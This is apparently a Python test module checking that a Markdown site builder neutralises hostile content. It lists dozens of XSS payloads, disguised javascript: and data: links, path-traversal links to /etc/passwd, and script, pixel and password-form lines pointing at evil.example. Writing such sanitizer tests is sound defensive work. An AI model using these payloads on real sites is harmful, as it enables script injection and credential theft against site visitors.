"""Hostile words in the text of a page: programs, handlers, and links that run something, in all their disguises."""

from __future__ import annotations

import base64

from ..bench import Bench
from .moving_in import both, each_is_named, none_does_harm, post

RAW = {
    "script": "<script>alert(1)</script>",
    "script in other case": "<ScRiPt>alert(1)</sCrIpT>",
    "script with a slash": "<script/x>alert(1)</script>",
    "script with a line end": "Hello <script\nasync>alert(1)</script>",
    "script with a source": '<script src="https://evil.example/x.js"></script>',
    "script without an end": "<script>alert(1)",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with a form feed": "<script\x0c>alert(1)</script>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "svg onload": "<svg/onload=alert(1)>",
    "svg animate": '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    "svg use": '<svg><use href="data:image/svg+xml,x#x"></svg>',
    "math": '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror without a space": '<img/src="x"/onerror=alert(1)>',
    "img from elsewhere": '<img src="https://evil.example/pixel.png">',
    "img with back quotes": "<img src=`x` onerror=`alert(1)`>",
    "image element": "<image src=x onerror=alert(1)>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="data:text/html,x"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "form": '<form action="https://evil.example/"><input name=password></form>',
    "button": '<button formaction="javascript:alert(1)">Press</button>',
    "anchor": '<a href="javascript:alert(1)">words</a>',
    "anchor without quotes": "<a href=javascript&colon;alert(1)>words</a>",
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style element": "<style>body { background: url(https://evil.example/) }</style>",
    "style attribute": 'Hello <span style="background: url(https://evil.example/)">you</span>',
    "handler on span": 'Hello <span lang="cy" onclick="alert(1)">Croeso</span>',
    "handler on span in other case": 'Hello <span lang="cy" ONMOUSEOVER=alert(1)>Croeso</span>',
    "handler after a slash": 'Hello <span/onclick=alert(1) lang="cy">Croeso</span>',
    "handler on details": "<details open ontoggle=alert(1)>\n<summary>More</summary>\nWords\n</details>",
    "handler on a line break": "Hello<br onclick=alert(1)>you",
    "handler on abbr": 'The <abbr title="x" onfocus="alert(1)" tabindex=1>BSL</abbr>',
    "cite on q": 'They said <q cite="javascript:alert(1)">Hello</q>',
    "cite on ins": 'They said <ins cite="javascript:alert(1)">Hello</ins>',
    "comment that closes early": "<!--><img src=x onerror=alert(1)>-->",
    "comment that closes with a bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment without an end": "<!-- <img src=x onerror=alert(1)>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?php echo '<script>alert(1)</script>' ?>",
    "doctype": "<!DOCTYPE html><script>alert(1)</script>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "plaintext": "<plaintext>",
    "xmp": "<xmp><script>alert(1)</script></xmp>",
    "textarea": "<textarea><script>alert(1)</script></textarea>",
    "title": "<title></title><script>alert(1)</script>",
    "video": '<video src="x.mp4" onerror=alert(1) autoplay></video>',
    "audio": "<audio src=x onerror=alert(1)></audio>",
    "marquee": "<marquee onstart=alert(1)>Hello</marquee>",
    "input": "<input autofocus onfocus=alert(1)>",
    "body": "<body onload=alert(1)>",
    "end of the page": "</main></body></html><script>alert(1)</script>",
    "end of a block": "</div></section></article><img src=x onerror=alert(1)>",
    "tag without an end": "Hello <img src=x onerror=alert(1) ",
    "tag in a tag": 'Hello <span lang="en" <script>alert(1)</script>>you</span>',
    "tag with a quote that never ends": 'Hello <span lang="en>you</span><script>alert(1)</script>',
    "tag with a nul": b"Hello <scr\0ipt>alert(1)</scr\0ipt><img src=x onerr\0or=alert(1)>",
    "custom element": "<x-thing onclick=alert(1)>Hello</x-thing>",
    "id that takes a name": 'Hello <span id="_main" name="getElementById">you</span>',
    "in a heading": "## Hello <script>alert(1)</script>",
    "in a table": "| A | B |\n| --- | --- |\n| <script>alert(1)</script> | b |",
    "in a list": "- one\n- <img src=x onerror=alert(1)>",
    "in a quote": "> <script>alert(1)</script>",
    "in a link's words": "[<img src=x onerror=alert(1)>](https://example.org/)",
    "in a picture's words": '![Words <img src=x onerror=alert(1)>](lake.png)',
    "in a note": "Words[^1]\n\n[^1]: <script>alert(1)</script>",
    "in a task": "- [ ] <script>alert(1)</script>",
    "dir with more": 'Hello <span dir="rtl&quot; onclick=&quot;alert(1)">you</span>',
    "lang with more": "Hello <span lang='\"><script>alert(1)</script>'>you</span>",
}
# The line of the body on which the hostile thing stands, where that is not the first.
LINE = {"in a table": 3, "in a list": 2, "in a note": 3}
# Plain words after all: CommonMark's own rules make text of them, and text is escaped.
ONLY_WORDS = {"svg onload", "img onerror without a space", "tag without an end", "in a picture's words", "lang with more", "dir with more", "tag with a nul", "img with back quotes", "tag in a tag", "script with a form feed", "handler after a slash", "tag with a quote that never ends"}

LINKS = {
    "javascript": "[words](javascript:alert(1))",
    "other case": "[words](JaVaScRiPt:alert(1))",
    "entity number": "[words](&#106;avascript:alert(1))",
    "entity with zeros": "[words](&#0000106;avascript:alert(1))",
    "entity hex": "[words](&#x6A;avascript:alert(1))",
    "entity colon": "[words](javascript&colon;alert(1))",
    "entity colon number": "[words](javascript&#58;alert(1))",
    "entity tab": "[words](<java&Tab;script:alert(1)>)",
    "entity tab number": "[words](<java&#9;script:alert(1)>)",
    "entity new line": "[words](<java&NewLine;script:alert(1)>)",
    "entity new line number": "[words](<java&#10;script&#13;:alert(1)>)",
    "tab": "[words](<java\tscript:alert(1)>)",
    "space before": "[words](<  javascript:alert(1)>)",
    "no-break space before": "[words](<\u00a0javascript:alert(1)>)",
    "control before": "[words](<&#1;javascript:alert(1)>)",
    "control within": "[words](<java&#1;script:alert(1)>)",
    "escape before": "[words](<\x1bjavascript:alert(1)>)",
    "zero-width within": "[words](<java\u200bscript:alert(1)>)",
    "zero-width before": "[words](<\u200bjavascript:alert(1)>)",
    "zero-width joiner": "[words](<java\u200dscript:alert(1)>)",
    "soft hyphen": "[words](<java\u00adscript:alert(1)>)",
    "byte-order mark": "[words](<\ufeffjavascript:alert(1)>)",
    "zero-width before the colon": "[words](<javascript\u2060:alert(1)>)",
    "right-to-left mark": "[words](<\u202ejavascript:alert(1)>)",
    "fullwidth colon": "[words](<javascript\uff1aalert(1)>)",
    "nul": b"[words](<java\0script:alert(1)>)",
    "backslash": r"[words](javascript\:alert\(1\))",
    "percent": "[words](%6Aavascript:alert(1))",
    "percent colon": "[words](javascript%3Aalert(1))",
    "two encodings": "[words](&amp;#106;avascript:alert(1))",
    "with slashes": "[words](javascript://example.org/%0Aalert(1))",
    "after https": "[words](https:javascript:alert(1))",
    "vbscript": "[words](vbscript:msgbox(1))",
    "vbscript in other case": "[words](VBSCRIPT:msgbox(1))",
    "livescript": "[words](livescript:alert(1))",
    "data html": "[words](data:text/html,<script>alert(1)</script>)",
    "data html in base 64": "[words](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data in other case": "[words](DaTa:text/html,x)",
    "data with entity": "[words](dat&#97;:text/html,x)",
    "data svg": "[words](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    "blob": "[words](blob:https://example.org/x)",
    "file": "[words](file:///etc/passwd)",
    "about": "[words](about:blank)",
    "view-source": "[words](view-source:javascript:alert(1))",
    "filesystem": "[words](filesystem:https://example.org/x)",
    "intent": "[words](intent://x#Intent;scheme=x;end)",
    "unknown scheme": "[words](x-app+y.z:do)",
    "backslashes": r"[words](\\\\evil.example/x)",
    "slash and backslash": r"[words](/\\evil.example/x)",
    "backslash path": r"[words](..\\..\\secret.md)",
    "quote in an address": '[words](https://example.org/"onmouseover="alert(1))',
    "bracket in an address": "[words](<https://example.org/\\<script\\>>)",
    "mail with a new line": "[words](<mailto:a@example.org&#10;Bcc:b@example.org>)",
    "in a definition": "[words][x]\n\n[x]: javascript:alert(1)",
    "in a definition with entity": "[words][x]\n\n[x]: &#106;avascript:alert(1)",
    "in a definition's brackets": "[words]\n\n[words]: <java&Tab;script:alert(1)>",
    "autolink": "<javascript:alert(1)>",
    "autolink in other case": "<JAVASCRIPT:alert(1)>",
    "autolink data": "<data:text/html,hello>",
    "autolink vbscript": "<vbscript:x>",
    "picture": "![A lake](javascript:alert(1))",
    "picture data": "![A lake](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    "picture from elsewhere": "![A lake](https://evil.example/pixel.png)",
    "picture from elsewhere without a scheme": "![A lake](//evil.example/pixel.png)",
    "picture in a definition": "![A lake][x]\n\n[x]: vbscript:x",
    "picture in a link": "[![A lake](lake.png)](javascript:alert(1))",
    "in a heading": "## [words](javascript:alert(1))",
    "in a table": "| A | B |\n| --- | --- |\n| [words](javascript:alert(1)) | b |",
    "in a note": "Words[^1]\n\n[^1]: [words](javascript:alert(1))",
    "in a quoted list": "> - [words](javascript:alert(1))",
    "in emphasis": "***[words](javascript:alert(1))***",
    "out by a file address": "[words](../../../../../../../../etc/passwd)",
    "out from the top": "[words](/../../etc/passwd)",
    "out by percent": "[words](%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd)",
    "out by picture": "![A lake](../../../../../../etc/passwd.png)",
    "out to the settings": "[words](../../site.yaml)",
    "out to the theme": "[words](../../../themes/care-net/theme.yaml)",
}
LINK_LINE = {"in a table": 3, "in a note": 3}
# With a double slash it is an ordinary link to another site; with the others the address is a name without a scheme, and not found.
HARMLESS_LINKS = {"picture data"}

PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=")


def html_beyond_the_few(bench: Bench) -> None:
    cases = [post(f"html {name}", body, LINE.get(name, 1), files={"lake.png": PIXEL}) for name, body in RAW.items()]
    each_is_named(bench, [case for case in cases if case.name.removeprefix("html ") not in ONLY_WORDS])
    none_does_harm(bench, cases)


def links_in_all_disguises(bench: Bench) -> None:
    both(bench, [post(f"link {name}", body, LINK_LINE.get(name, 1), files={"lake.png": PIXEL}) for name, body in LINKS.items()])


INNOCENT = {
    "title of a link": '[words](https://example.org/ "\\" onclick=\\"alert(1)")',
    "title of a picture": '![A lake](lake.png "<script>alert(1)</script>")',
    "words of a picture": '![\\" onerror=\\"alert(1) \'x\' <b>](lake.png)',
    "fence": '```"onclick="alert(1)\ncode\n```',
    "fence with markup": "```<script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "fence with tildes": "~~~x' onclick='alert(1)\n</code></pre><script>alert(1)</script>\n~~~",
    "code": "`<script>alert(1)</script>`",
    "escaped": "\\<script>alert(1)\\</script>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "heading": '## "\\>\\<img src=x onerror=alert(1)\\> {{mustache}}',
    "note's name": 'Words[^"><img>]\n\n[^"><img>]: More words.',
    "mustache": "{{mustache}} {{{body}}} {{>base}} {{#posts}} {{/posts}} {{=<% %>=}}",
    "end of a script": "&lt;/script&gt; ]]&gt; \\</script\\>",
    "marks of direction": "Words \u202egnp.exe\u202c and \u2028 line",
    "query": "[words](https://example.org/?a='b'&c=<d>)".replace("<d>", "%3Cd%3E"),
    "table alignment": "| A | B |\n|:-:|--:|\n| \\<script\\> | `<b>` |",
}


def words_that_only_look_hostile(bench: Bench) -> None:
    """Quotation marks and brackets where they are allowed: nothing to fix, and nothing but words on the page."""
    cases = [post(f"innocent {name}", body, files={"lake.png": PIXEL}) for name, body in INNOCENT.items()]
    site = bench.site({path: content for case in cases for path, content in case.files.items()})
    bench.builds(site)
    none_does_harm(bench, cases)
